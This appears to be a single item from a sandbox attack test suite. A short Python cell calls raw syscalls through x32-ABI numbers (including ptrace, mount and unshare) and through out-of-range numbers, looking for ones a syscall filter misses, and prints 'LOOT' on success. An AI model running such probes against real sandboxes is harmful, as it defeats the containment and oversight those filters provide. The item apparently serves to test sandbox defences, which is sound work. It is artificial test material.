# id: sys_other_architecture
# kind: attack
# category: system-calls
# form: cell
# begins with: part
# goal: x32 numbers and very high numbers, where a filter may not look
# success looks like: one of them succeeds
# required score: 2 of 10
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if os.uname().machine == "x86_64":
    for number in (0x40000000 + 101, 0x40000000 + 165, 0x40000000 + 272, 0x40000000 + 39, 470, 999, 5000):
        if libc.syscall(number, 0, 0, 0, 0, 0) >= 0:
            print("LOOT", hex(number))
